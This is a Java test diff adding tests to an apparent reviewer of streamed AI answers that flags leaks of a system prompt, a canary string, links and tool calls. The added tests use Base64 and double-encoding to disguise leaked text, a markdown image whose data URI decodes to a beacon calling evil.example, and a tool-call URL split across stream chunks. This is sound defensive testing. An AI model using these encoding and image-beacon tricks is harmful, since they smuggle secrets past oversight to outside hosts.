@@ -18,6 +18,8 @@ import dev.weir.model.talk.AnswerTerms.Fate;
 import dev.weir.model.talk.Breach;
 import dev.weir.model.talk.Remark;
 import dev.weir.model.talk.Review;
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
@@ -89,6 +91,36 @@ final class StreamedAnswerTest {
       assertThat(said(through(links, random, stream(random, link)))).doesNotContain("evil");
       assertThat(links.denied()).map(Remark::breach).contains(Breach.LINKS);
     }
+  }
+
+  @Test
+  void findsWhatStandsInAnotherForm() {
+    String coded = Base64.getEncoder().encodeToString(INSTRUCTIONS.getBytes(StandardCharsets.UTF_8));
+    String twice = Base64.getEncoder().encodeToString("HALYARD-7731-blue".getBytes(StandardCharsets.UTF_8));
+    String nested = Base64.getEncoder().encodeToString(twice.getBytes(StandardCharsets.UTF_8));
+    Map.of(coded, Breach.SYSTEM_PROMPT, coded.replaceAll("(.{76})", "$1 "), Breach.SYSTEM_PROMPT, nested,
+        Breach.CANARY,
+        "![a](data:text/html;base64,PGltZyBzcmM9J2h0dHBzOi8vZXZpbC5leGFtcGxlLz9xPUJldHRpbmEnPg==)",
+        Breach.LINKS)
+        .forEach((said, breach) -> {
+          Review review = review(denying(breach));
+          review.begin(EVENTS);
+          through(review, new Random(1), stream(new Random(2), "It is " + said + " and no more."));
+          assertThat(review.denied()).as(said).map(Remark::breach).contains(breach);
+        });
+  }
+
+  @Test
+  void findsAHostWithoutASchemeInAStreamedCall() {
+    Review review = review(Api.ANTHROPIC, denying(Breach.TOOLS));
+    review.begin(EVENTS);
+    for (String piece : List.of("{\\\"url\\\":\\\"evil.exa", "mple/x\\\"}")) {
+      review
+          .next(Bytes.utf8("event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":1,"
+              + "\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"" + piece + "\"}}\n\n"));
+    }
+    review.end();
+    assertThat(review.denied()).map(Remark::breach).contains(Breach.TOOLS);
   }
 
   @Test
